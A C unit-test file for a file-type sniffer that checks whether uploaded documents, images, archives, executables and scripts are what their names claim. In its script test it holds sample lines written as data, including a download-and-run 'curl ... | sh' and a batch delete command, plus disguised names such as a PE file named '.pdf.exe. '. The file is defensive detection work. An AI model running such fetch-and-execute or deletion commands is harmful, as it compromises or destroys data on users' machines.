/*
 * test_sniff.c - parsers/sniff.c: what a file is, whatever its name says.
 *
 * Samples are built at run time: documents and archives with libarchive's
 * writer, a minimal PE and minimal compound (CDF) files by hand, ELF from
 * /bin/true.  The corpora archives are sniffed too, for robustness.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <archive.h>
#include <archive_entry.h>
#include <fcntl.h>
#include <ftw.h>
#include <locale.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "sniff.h"
#include "testutil.h"

static struct sniff *S;

static double cpu_now(void)
{
	struct rusage ru;

	getrusage(RUSAGE_SELF, &ru);
	return (double)ru.ru_utime.tv_sec + (double)ru.ru_utime.tv_usec / 1e6 +
	       (double)ru.ru_stime.tv_sec + (double)ru.ru_stime.tv_usec / 1e6;
}

/* ---- builders -------------------------------------------------------------- */

struct dbuf {
	unsigned char *p;
	size_t len, cap;
};

static ssize_t dbuf_write(struct archive *a, void *cd, const void *buf, size_t n)
{
	struct dbuf *d = cd;

	(void)a;
	if (d->cap - d->len < n) {
		while (d->cap - d->len < n)
			d->cap = d->cap ? d->cap * 2 : 4096;
		d->p = realloc(d->p, d->cap);
		assert_non_null(d->p);
	}
	memcpy(d->p + d->len, buf, n);
	d->len += n;
	return (ssize_t)n;
}

struct member {
	const char *name;
	const char *data;
};

/* An archive of members (format/filter as libarchive names them). */
static unsigned char *build(int format, int filter, const char *options,
                            const struct member *m, size_t n, size_t *len_r)
{
	struct archive *a = archive_write_new();
	struct dbuf d = { NULL, 0, 0 };
	size_t i;

	assert_int_equal(archive_write_set_format(a, format), ARCHIVE_OK);
	if (filter != ARCHIVE_FILTER_NONE)
		assert_int_equal(archive_write_add_filter(a, filter), ARCHIVE_OK);
	if (options != NULL)
		assert_int_equal(archive_write_set_options(a, options), ARCHIVE_OK);
	archive_write_set_bytes_in_last_block(a, 1);
	assert_int_equal(archive_write_open2(a, &d, NULL, dbuf_write, NULL, NULL), ARCHIVE_OK);
	for (i = 0; i < n; i++) {
		struct archive_entry *e = archive_entry_new();
		size_t len = strlen(m[i].data);

		archive_entry_set_pathname_utf8(e, m[i].name);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_entry_set_mtime(e, 1684454400, 0);
		archive_entry_set_size(e, (int64_t)len);
		assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
		assert_int_equal(archive_write_data(a, m[i].data, len), (ssize_t)len);
		archive_entry_free(e);
	}
	assert_int_equal(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	*len_r = d.len;
	return d.p;
}

static const char CT[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
	"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>";
static const char RELS[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
	"xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>";

static unsigned char *ooxml(const char *part, size_t *len)
{
	struct member m[] = {
		{ "[Content_Types].xml", CT },
		{ "_rels/.rels", RELS },
		{ part, "<?xml version=\"1.0\"?><x/>" },
	};

	return build(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, NULL, m, 3, len);
}

static void put16(unsigned char *p, unsigned v)
{
	p[0] = (unsigned char)v;
	p[1] = (unsigned char)(v >> 8);
}

static void put32(unsigned char *p, uint32_t v)
{
	put16(p, v & 0xFFFF);
	put16(p + 2, v >> 16);
}

/* A minimal PE32 header: DOS stub, "PE\0\0", COFF and optional header. */
static unsigned char *mini_pe(size_t *len)
{
	unsigned char *p = calloc(1, 1024);

	assert_non_null(p);
	p[0] = 'M';
	p[1] = 'Z';
	put16(p + 2, 0x90);
	put16(p + 4, 3);
	put16(p + 8, 4);
	put16(p + 0x18, 0x40);
	put32(p + 0x3C, 0x80);             /* e_lfanew */
	memcpy(p + 0x4E, "This program cannot be run in DOS mode.\r\r\n$", 44);
	memcpy(p + 0x80, "PE\0\0", 4);
	put16(p + 0x84, 0x014C);           /* i386 */
	put16(p + 0x86, 1);                /* one section */
	put16(p + 0x94, 0xE0);             /* optional header size */
	put16(p + 0x96, 0x0102);           /* executable, 32-bit */
	put16(p + 0x98, 0x010B);           /* PE32 */
	put32(p + 0x98 + 16, 0x1000);      /* entry point */
	put32(p + 0x98 + 28, 0x400000);    /* image base */
	put32(p + 0x98 + 32, 0x1000);
	put32(p + 0x98 + 36, 0x200);
	put16(p + 0x98 + 68, 2);           /* subsystem: GUI */
	put32(p + 0x98 + 92, 16);
	memcpy(p + 0x178, ".text", 5);
	*len = 1024;
	return p;
}

/*
 * A minimal compound file (CDF v3, 512-byte sectors): header, one FAT
 * sector, one directory sector, and a 4096-byte stream named `stream`
 * (big enough to live in normal sectors, no mini stream needed).
 * clsid: the root entry's class id (MSI uses one), or NULL.
 */
static unsigned char *mini_cdf(const char *stream, const unsigned char *clsid, size_t *len)
{
	size_t total = 512 + 10 * 512, i;
	unsigned char *p = calloc(1, total), *fat, *dir;

	assert_non_null(p);
	memcpy(p, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
	put16(p + 0x18, 0x3E);
	put16(p + 0x1A, 3);
	put16(p + 0x1C, 0xFFFE);
	put16(p + 0x1E, 9);
	put16(p + 0x20, 6);
	put32(p + 0x2C, 1);                /* FAT sectors */
	put32(p + 0x30, 1);                /* first directory sector */
	put32(p + 0x38, 0x1000);           /* mini stream cutoff */
	put32(p + 0x3C, 0xFFFFFFFE);       /* no mini FAT */
	put32(p + 0x44, 0xFFFFFFFE);       /* no DIFAT sectors */
	put32(p + 0x4C, 0);                /* FAT in sector 0 */
	for (i = 1; i < 109; i++)
		put32(p + 0x4C + 4 * i, 0xFFFFFFFF);
	fat = p + 512;
	for (i = 0; i < 128; i++)
		put32(fat + 4 * i, 0xFFFFFFFF);
	put32(fat, 0xFFFFFFFD);            /* sector 0: FAT */
	put32(fat + 4, 0xFFFFFFFE);        /* sector 1: directory */
	for (i = 2; i < 9; i++)
		put32(fat + 4 * i, (uint32_t)i + 1);
	put32(fat + 4 * 9, 0xFFFFFFFE);    /* sectors 2..9: the stream */
	dir = p + 1024;
	for (i = 0; i < 4; i++) {
		put32(dir + 128 * i + 0x44, 0xFFFFFFFF);
		put32(dir + 128 * i + 0x48, 0xFFFFFFFF);
		put32(dir + 128 * i + 0x4C, 0xFFFFFFFF);
	}
	for (i = 0; i < 10; i++)
		put16(dir + 2 * i, (unsigned char)"Root Entry"[i]);
	put16(dir + 0x40, 22);
	dir[0x42] = 5;                     /* root storage */
	dir[0x43] = 1;
	put32(dir + 0x4C, 1);              /* child: entry 1 */
	if (clsid != NULL)
		memcpy(dir + 0x50, clsid, 16);
	put32(dir + 0x74, 0xFFFFFFFE);
	for (i = 0; stream[i] != '\0'; i++)
		put16(dir + 128 + 2 * i, (unsigned char)stream[i]);
	put16(dir + 128 + 0x40, (unsigned)(2 * i + 2));
	dir[128 + 0x42] = 2;               /* stream */
	dir[128 + 0x43] = 1;
	put32(dir + 128 + 0x74, 2);        /* first sector */
	put32(dir + 128 + 0x78, 4096);
	for (i = 0; i < 4096; i++)
		p[512 * 3 + i] = (unsigned char)(i * 7);
	*len = total;
	return p;
}

/* ---- helpers ------------------------------------------------------------------ */

static struct sniff_result sniff_mem(const void *buf, size_t len, const char *name)
{
	struct sniff_result r;

	memset(&r, 0xAB, sizeof(r));
	assert_int_equal(sniff_buffer(S, buf, len, name, &r), 0);
	assert_non_null(memchr(r.mime, '\0', sizeof(r.mime)));
	return r;
}

static void expect(const void *buf, size_t len, const char *name, const char *mime,
                   enum sniff_kind kind, bool mismatch)
{
	struct sniff_result r = sniff_mem(buf, len, name);

	if (mime != NULL && strcmp(r.mime, mime) != 0)
		fail_msg("%s: mime %s, expected %s", name, r.mime, mime);
	if (r.kind != kind)
		fail_msg("%s (%s): kind %s, expected %s", name, r.mime, sniff_kind_name(r.kind),
		         sniff_kind_name(kind));
	if (r.ext_mismatch != mismatch)
		fail_msg("%s (%s): ext_mismatch %d, expected %d", name, r.mime, r.ext_mismatch, mismatch);
}

static int mem_fd(const void *buf, size_t len)
{
	int fd = memfd_create("sniff", 0);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, buf, len), (ssize_t)len);
	return fd;
}

/* ---- tests ---------------------------------------------------------------------- */

static const char PDF[] = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
                          "trailer\n<< /Root 1 0 R >>\n%%EOF\n";

static void test_pdf_jpeg_png(void **state)
{
	static const unsigned char jpeg[] = {
		0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 'J', 'F', 'I', 'F', 0, 1, 1, 0, 0, 1, 0, 1,
		0, 0, 0xFF, 0xDB, 0x00, 0x43, 0x00, 8, 6, 6, 7, 6, 5, 8, 7, 7, 7, 9, 9, 8, 10,
		0xFF, 0xD9,
	};
	static const unsigned char png[] = {
		0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R',
		0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xDE,
	};

	(void)state;
	expect(PDF, sizeof(PDF) - 1, "营业执照.pdf", "application/pdf", SNIFF_DOCUMENT, false);
	expect(jpeg, sizeof(jpeg), "身份证.jpg", "image/jpeg", SNIFF_IMAGE, false);
	expect(png, sizeof(png), "身份证.png", "image/png", SNIFF_IMAGE, false);
	/* a JPEG named .png is still an image: no mismatch between images */
	expect(jpeg, sizeof(jpeg), "身份证.PNG", "image/jpeg", SNIFF_IMAGE, false);
	/* a PDF named .jpg is a document pretending to be an image */
	expect(PDF, sizeof(PDF) - 1, "扫描件.jpg", "application/pdf", SNIFF_DOCUMENT, true);
	/* no name: no claim */
	expect(PDF, sizeof(PDF) - 1, NULL, "application/pdf", SNIFF_DOCUMENT, false);
}

static void test_ooxml(void **state)
{
	static const struct {
		const char *part, *name, *mime;
	} cases[] = {
		{ "word/document.xml", "申请表.docx",
		  "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
		{ "xl/workbook.xml", "汇总表.xlsx",
		  "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
		{ "ppt/presentation.xml", "汇报.pptx",
		  "application/vnd.openxmlformats-officedocument.presentationml.presentation" },
	};
	size_t i, len;

	(void)state;
	for (i = 0; i < 3; i++) {
		unsigned char *z = ooxml(cases[i].part, &len);

		expect(z, len, cases[i].name, cases[i].mime, SNIFF_DOCUMENT, false);
		/* an OOXML file named .zip: a document, and the name lies */
		expect(z, len, "材料.zip", cases[i].mime, SNIFF_DOCUMENT, true);
		/* legacy extension on OOXML content: both documents */
		expect(z, len, "申请表.doc", cases[i].mime, SNIFF_DOCUMENT, false);
		free(z);
	}
}

/* Members in an order libmagic does not recognise: the listing decides. */
static void test_ooxml_unusual_order(void **state)
{
	struct member m[] = {
		{ "docProps/app.xml", "<x/>" },
		{ "word/document.xml", "<w/>" },
		{ "_rels/.rels", RELS },
		{ "[Content_Types].xml", CT },
	};
	size_t len;
	unsigned char *z = build(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, NULL, m, 4, &len);

	(void)state;
	expect(z, len, "a.docx",
	       "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
	       SNIFF_DOCUMENT, false);
	free(z);
}

/*
 * libmagic reads only SNIFF_MAGIC_BYTES of a file: an OOXML whose first
 * entry is a large image must still come out as a document, through the
 * descriptor as the parse child calls it.
 */
static void test_ooxml_large_first_entry(void **state)
{
	size_t big = 3u << 20, len;
	char *junk = malloc(big + 1);
	uint32_t x = 2463534242u;
	struct member m[4];
	unsigned char *z;
	struct sniff_result r;
	int fd;

	(void)state;
	assert_non_null(junk);
	for (size_t i = 0; i < big; i++) {
		x ^= x << 13;
		x ^= x >> 17;
		x ^= x << 5;
		junk[i] = (char)(33 + x % 90);      /* printable, barely compressible */
	}
	junk[big] = '\0';
	m[0] = (struct member){ "word/media/image1.png", junk };
	m[1] = (struct member){ "[Content_Types].xml", CT };
	m[2] = (struct member){ "_rels/.rels", RELS };
	m[3] = (struct member){ "word/document.xml", "<w/>" };
	z = build(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, NULL, m, 4, &len);
	assert_true(len > (2u << 20));
	fd = mem_fd(z, len);
	assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
	assert_int_equal(sniff_fd(S, fd, "扫描件.docx", &r), 0);
	assert_string_equal(r.mime,
	                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
	assert_int_equal(r.kind, SNIFF_DOCUMENT);
	assert_false(r.ext_mismatch);
	close(fd);
	free(z);
	free(junk);
}

static void test_ofd_odf_jar_apk(void **state)
{
	struct member ofd[] = {
		{ "OFD.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\"/>" },
		{ "Doc_0/Document.xml", "<ofd:Document/>" },
		{ "Doc_0/Pages/Page_0/Content.xml", "<ofd:Page/>" },
	};
	struct member odt[] = {
		{ "mimetype", "application/vnd.oasis.opendocument.text" },
		{ "content.xml", "<office:document-content/>" },
		{ "META-INF/manifest.xml", "<manifest:manifest/>" },
	};
	struct member jar[] = {
		{ "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: A\n" },
		{ "A.class", "\xCA\xFE\xBA\xBE" },
	};
	struct member apk[] = {
		{ "AndroidManifest.xml", "\x03\x00\x08\x00" },
		{ "classes.dex", "dex\n035\0" },
		{ "resources.arsc", "x" },
	};
	struct member epub[] = {
		{ "mimetype", "application/epub+zip" },
		{ "META-INF/container.xml", "<container/>" },
	};
	size_t len;
	unsigned char *z;

	(void)state;
	z = build(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, NULL, ofd, 3, &len);
	expect(z, len, "电子证照.ofd", "application/ofd", SNIFF_DOCUMENT, false);
	free(z);
	z = build(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, "zip:compression=store", odt, 3, &len);
	expect(z, len, "说明.odt", "application/vnd.oasis.opendocument.text", SNIFF_DOCUMENT, false);
	free(z);
	z = build(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, NULL, jar, 2, &len);
	expect(z, len, "营业执照.zip", NULL, SNIFF_EXECUTABLE, true);
	free(z);
	z = build(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, NULL, apk, 3, &len);
	expect(z, len, "app.apk", NULL, SNIFF_EXECUTABLE, false);
	free(z);
	z = build(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, "zip:compression=store", epub, 2, &len);
	expect(z, len, "book.epub", NULL, SNIFF_OTHER, false);
	free(z);
}

static void test_archives(void **state)
{
	struct member m[] = {
		{ "营业执照.pdf", "%PDF-1.4 scan" },
		{ "申请表.docx", "not really" },
	};
	struct member one[] = { { "x", "hello hello hello hello hello" } };
	size_t len;
	unsigned char *b;

	(void)state;
	b = build(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, NULL, m, 2, &len);
	expect(b, len, "申报材料.zip", "application/zip", SNIFF_ARCHIVE, false);
	/* a plain zip named .docx: the name lies */
	expect(b, len, "申请表.docx", "application/zip", SNIFF_ARCHIVE, true);
	free(b);
	b = build(ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE, NULL, m, 2, &len);
	expect(b, len, "申报材料.7z", "application/x-7z-compressed", SNIFF_ARCHIVE, false);
	free(b);
	b = build(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_NONE, NULL, m, 2, &len);
	expect(b, len, "a.tar", "application/x-tar", SNIFF_ARCHIVE, false);
	free(b);
	b = build(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_GZIP, NULL, m, 2, &len);
	expect(b, len, "a.tar.gz", "application/gzip", SNIFF_ARCHIVE, false);
	expect(b, len, "a.tgz", "application/gzip", SNIFF_ARCHIVE, false);
	free(b);
	b = build(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_BZIP2, NULL, m, 2, &len);
	expect(b, len, "a.tar.bz2", "application/x-bzip2", SNIFF_ARCHIVE, false);
	free(b);
	b = build(ARCHIVE_FORMAT_TAR_GNUTAR, ARCHIVE_FILTER_XZ, NULL, m, 2, &len);
	expect(b, len, "a.tar.xz", "application/x-xz", SNIFF_ARCHIVE, false);
	free(b);
	/* one gzip'd file: compressed, not an archive, and .gz says so */
	b = build(ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, NULL, one, 1, &len);
	expect(b, len, "notes.txt.gz", "application/gzip", SNIFF_OTHER, false);
	expect(b, len, "notes.zip", "application/gzip", SNIFF_OTHER, true);
	free(b);
	b = build(ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_XZ, NULL, one, 1, &len);
	expect(b, len, "notes.xz", "application/x-xz", SNIFF_OTHER, false);
	free(b);
}

/* An xz declaring a 1 GiB dictionary is not decoded by sniff (liblzma would
 * reserve it first); it is left to unpack, under the worker's limits. */
static void test_xz_big_dictionary(void **state)
{
	struct member m[] = { { "a.txt", "hello hello hello" } };
	size_t len, hsize, i;
	unsigned char *b = build(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_XZ,
	                         "xz:compression-level=0", m, 1, &len);
	uint32_t crc = 0xFFFFFFFFu;
	pid_t pid;
	int status;

	(void)state;
	hsize = ((size_t)b[12] + 1) * 4;
	i = 14;
	assert_int_equal(b[i], 0x21);            /* no optional sizes here */
	b[i + 2] = 36;                           /* 2^30 */
	for (size_t k = 12; k < 12 + hsize - 4; k++) {
		crc ^= b[k];
		for (int j = 0; j < 8; j++)
			crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
	}
	crc = ~crc;
	for (int j = 0; j < 4; j++)
		b[12 + hsize - 4 + (size_t)j] = (unsigned char)(crc >> (8 * j));
	expect(b, len, "a.tar.xz", "application/x-xz", SNIFF_ARCHIVE, false);
	/* Under a 400 MB address-space limit the reservation would fail and
	 * the answer would flip; sniff never asks for it.  (Not under ASan,
	 * whose shadow memory does not fit such a limit.) */
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		struct rlimit as = { 400ULL << 20, 400ULL << 20 };
		struct sniff_result r;

		if (!TU_ASAN && setrlimit(RLIMIT_AS, &as) != 0)
			_exit(3);
		_exit(sniff_buffer(S, b, len, "a.tar.xz", &r) == 0 && r.kind == SNIFF_ARCHIVE ? 0 : 2);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 0);
	free(b);
}

static void test_rar_corpora(void **state)
{
	char *p = tu_printf("%s/archives/recursiveextractor/archives/TestData.rar", tu_corpora());
	size_t len;
	char *b = tu_read_file(p, &len);

	(void)state;
	assert_non_null(b);
	expect(b, len, "TestData.rar", NULL, SNIFF_ARCHIVE, false);
	free(b);
	free(p);
}

static void test_executables(void **state)
{
	size_t len;
	char *elf = tu_read_file("/bin/true", &len);
	unsigned char *pe;

	(void)state;
	assert_non_null(elf);
	expect(elf, len, "营业执照.pdf", NULL, SNIFF_EXECUTABLE, true);
	expect(elf, len, "true", NULL, SNIFF_EXECUTABLE, false);
	free(elf);
	pe = mini_pe(&len);
	expect(pe, len, "营业执照.pdf", NULL, SNIFF_EXECUTABLE, true);
	/* Windows drops trailing dots and spaces: this runs as .exe */
	expect(pe, len, "营业执照.pdf.exe. ", NULL, SNIFF_EXECUTABLE, false);
	expect(pe, len, "setup.exe", NULL, SNIFF_EXECUTABLE, false);
	expect(pe, len, "身份证.JPG", NULL, SNIFF_EXECUTABLE, true);
	free(pe);
}

static void test_scripts(void **state)
{
	static const char sh[] = "#!/bin/sh\ncurl http://example.invalid/x | sh\n";
	static const char py[] = "#!/usr/bin/env python3\nimport os\nos.system('id')\n";
	static const char bat[] = "@echo off\r\ndel /q C:\\temp\\*.*\r\n";
	static const char plain[] = "Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\"\r\n";

	(void)state;
	expect(sh, sizeof(sh) - 1, "说明.txt", NULL, SNIFF_SCRIPT, true);
	expect(sh, sizeof(sh) - 1, "run.sh", NULL, SNIFF_SCRIPT, false);
	expect(py, sizeof(py) - 1, "a.txt", NULL, SNIFF_SCRIPT, true);
	/* text whose extension runs it on Windows */
	expect(bat, sizeof(bat) - 1, "清理.bat", NULL, SNIFF_SCRIPT, false);
	expect(bat, sizeof(bat) - 1, "清理.CMD", NULL, SNIFF_SCRIPT, false);
	expect(plain, sizeof(plain) - 1, "a.vbs", NULL, SNIFF_SCRIPT, false);
	expect(plain, sizeof(plain) - 1, "a.ps1", NULL, SNIFF_SCRIPT, false);
	expect(plain, sizeof(plain) - 1, "a.js", NULL, SNIFF_SCRIPT, false);
	expect(plain, sizeof(plain) - 1, "a.hta", NULL, SNIFF_SCRIPT, false);
	/* the same text named .txt is a document */
	expect(plain, sizeof(plain) - 1, "a.txt", NULL, SNIFF_DOCUMENT, false);
}

static void test_text_and_empty(void **state)
{
	/* 营业执照副本，衡阳市某某科技有限公司 in GBK */
	static const char gbk[] = "\xd3\xaa\xd2\xb5\xd6\xb4\xd5\xd5\xb8\xb1\xb1\xbe\xa3\xac"
	                          "\xba\xe2\xd1\xf4\xca\xd0\xc4\xb3\xc4\xb3\xbf\xc6\xbc\xbc"
	                          "\xd3\xd0\xcf\xde\xb9\xab\xcb\xbe\r\n";
	static const char csv[] = "序号,单位名称,统一社会信用代码\n1,衡阳市某某科技有限公司,91430400MA4L000000\n";
	struct sniff_result r;
	int fd;

	(void)state;
	expect(gbk, sizeof(gbk) - 1, "说明.txt", "text/plain", SNIFF_DOCUMENT, false);
	expect(csv, sizeof(csv) - 1, "汇总.csv", NULL, SNIFF_DOCUMENT, false);
	expect("", 0, "营业执照.pdf", "application/x-empty", SNIFF_EMPTY, false);
	assert_int_equal(sniff_buffer(S, NULL, 0, NULL, &r), 0);
	assert_int_equal(r.kind, SNIFF_EMPTY);
	fd = mem_fd("", 0);
	assert_int_equal(sniff_fd(S, fd, "x.docx", &r), 0);
	assert_int_equal(r.kind, SNIFF_EMPTY);
	close(fd);
}

static void test_cdf(void **state)
{
	/* MSI's class id {000C1084-0000-0000-C000-000000000046} */
	static const unsigned char msi[16] = { 0x84, 0x10, 0x0C, 0x00, 0, 0, 0, 0,
	                                       0xC0, 0, 0, 0, 0, 0, 0, 0x46 };
	size_t len;
	unsigned char *doc = mini_cdf("WordDocument", NULL, &len);
	struct sniff_result r;

	(void)state;
	r = sniff_mem(doc, len, "申请表.doc");
	printf("  minimal CDF with WordDocument: %s\n", r.mime);
	assert_int_equal(r.kind, SNIFF_DOCUMENT);
	assert_false(r.ext_mismatch);
	/* Kingsoft WPS writes CDF with .wps/.et/.dps names */
	expect(doc, len, "申请表.wps", r.mime, SNIFF_DOCUMENT, false);
	expect(doc, len, "汇总表.et", r.mime, SNIFF_DOCUMENT, false);
	/* the first 4 KiB alone is a different answer (LIBRARIES.md 7) */
	r = sniff_mem(doc, 4096, "x.doc");
	assert_int_equal(r.kind, SNIFF_DOCUMENT);
	free(doc);
	doc = mini_cdf("Workbook", NULL, &len);
	r = sniff_mem(doc, len, "表.xls");
	printf("  minimal CDF with Workbook: %s\n", r.mime);
	assert_int_equal(r.kind, SNIFF_DOCUMENT);
	free(doc);
	doc = mini_cdf("Whatever", msi, &len);
	r = sniff_mem(doc, len, "安装.msi");
	printf("  minimal CDF with the MSI class id: %s\n", r.mime);
	assert_true(r.kind == SNIFF_EXECUTABLE || r.kind == SNIFF_DOCUMENT);
	free(doc);
}

/* sniff_fd reads from the current offset and leaves it there. */
static void test_fd_offset(void **state)
{
	size_t len;
	unsigned char *z = ooxml("word/document.xml", &len);
	unsigned char *buf = malloc(len + 5000);
	struct sniff_result r;
	int fd;

	(void)state;
	memset(buf, 0, 5000);
	memcpy(buf, "\x7f" "ELF", 4);       /* something else before it */
	memcpy(buf + 5000, z, len);
	fd = mem_fd(buf, len + 5000);
	assert_int_equal(lseek(fd, 5000, SEEK_SET), 5000);
	assert_int_equal(sniff_fd(S, fd, "申请表.docx", &r), 0);
	assert_string_equal(r.mime, "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
	assert_int_equal(r.kind, SNIFF_DOCUMENT);
	assert_false(r.ext_mismatch);
	assert_int_equal(lseek(fd, 0, SEEK_CUR), 5000);
	close(fd);
	fd = mem_fd(PDF, sizeof(PDF) - 1);
	assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
	assert_int_equal(sniff_fd(S, fd, "a.pdf", &r), 0);
	assert_string_equal(r.mime, "application/pdf");
	assert_int_equal(lseek(fd, 0, SEEK_CUR), 0);
	close(fd);
	free(buf);
	free(z);
}

static void test_kind_names(void **state)
{
	(void)state;
	assert_string_equal(sniff_kind_name(SNIFF_DOCUMENT), "document");
	assert_string_equal(sniff_kind_name(SNIFF_IMAGE), "image");
	assert_string_equal(sniff_kind_name(SNIFF_ARCHIVE), "archive");
	assert_string_equal(sniff_kind_name(SNIFF_EXECUTABLE), "executable");
	assert_string_equal(sniff_kind_name(SNIFF_SCRIPT), "script");
	assert_string_equal(sniff_kind_name(SNIFF_EMPTY), "empty");
	assert_string_equal(sniff_kind_name(SNIFF_OTHER), "other");
}

/* Every corpus archive (and the decoded .uu ones) sniffs without trouble,
 * in bounded time; zips and rars come out as archives or documents. */

static void test_corpora_robust(void **state)
{
	char *root = tu_printf("%s/archives", tu_corpora());
	size_t i, counts[SNIFF_OTHER + 1] = { 0 };
	double t0 = cpu_now(), worst = 0;
	const char *worst_name = "";
	size_t nfiles;
	char **files;

	(void)state;
	files = tu_list_files(root, &nfiles);
	assert_true(nfiles > 200);
	for (i = 0; i < nfiles; i++) {
		size_t len, pl = strlen(files[i]);
		char *buf = pl > 3 && strcmp(files[i] + pl - 3, ".uu") == 0 ?
		            tu_uudecode_file(files[i], &len) : tu_read_file(files[i], &len);
		struct sniff_result r;
		double t = cpu_now();
		int fd;

		assert_non_null(buf);
		assert_int_equal(sniff_buffer(S, buf, len, files[i], &r), 0);
		assert_true(r.kind <= SNIFF_OTHER);
		counts[r.kind]++;
		fd = mem_fd(buf, len);
		{
			struct sniff_result r2;

			assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
			assert_int_equal(sniff_fd(S, fd, files[i], &r2), 0);
			assert_int_equal(lseek(fd, 0, SEEK_CUR), 0);
		}
		close(fd);
		if (cpu_now() - t > worst) {
			worst = cpu_now() - t;
			worst_name = strrchr(files[i], '/') + 1;
		}
		free(buf);
	}
	printf("  %zu corpus files: %zu document, %zu image, %zu archive, %zu executable, "
	       "%zu script, %zu empty, %zu other; %.2f s CPU, slowest %.3f s (%s)\n", nfiles,
	       counts[SNIFF_DOCUMENT], counts[SNIFF_IMAGE], counts[SNIFF_ARCHIVE],
	       counts[SNIFF_EXECUTABLE], counts[SNIFF_SCRIPT], counts[SNIFF_EMPTY],
	       counts[SNIFF_OTHER], cpu_now() - t0, worst, worst_name);
	assert_true(worst < 2.0);
	tu_free_list(files, nfiles);
	free(root);
}

static void test_new_free(void **state)
{
	char err[128];
	struct sniff *s = sniff_new(err, sizeof(err));
	struct sniff *none = NULL;

	(void)state;
	assert_non_null(s);
	sniff_free(&s);
	assert_null(s);
	sniff_free(&s);
	sniff_free(&none);
	sniff_free(NULL);
}

static int setup(void **state)
{
	char err[256];

	(void)state;
	S = sniff_new(err, sizeof(err));
	if (S == NULL) {
		fprintf(stderr, "sniff_new: %s\n", err);
		return -1;
	}
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	sniff_free(&S);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_pdf_jpeg_png),
		cmocka_unit_test(test_ooxml),
		cmocka_unit_test(test_ooxml_unusual_order),
		cmocka_unit_test(test_ooxml_large_first_entry),
		cmocka_unit_test(test_ofd_odf_jar_apk),
		cmocka_unit_test(test_archives),
		cmocka_unit_test(test_xz_big_dictionary),
		cmocka_unit_test(test_rar_corpora),
		cmocka_unit_test(test_executables),
		cmocka_unit_test(test_scripts),
		cmocka_unit_test(test_text_and_empty),
		cmocka_unit_test(test_cdf),
		cmocka_unit_test(test_fd_offset),
		cmocka_unit_test(test_kind_names),
		cmocka_unit_test(test_corpora_robust),
		cmocka_unit_test(test_new_free),
	};

	setlocale(LC_CTYPE, "C.UTF-8");
	return cmocka_run_group_tests(tests, setup, teardown);
}
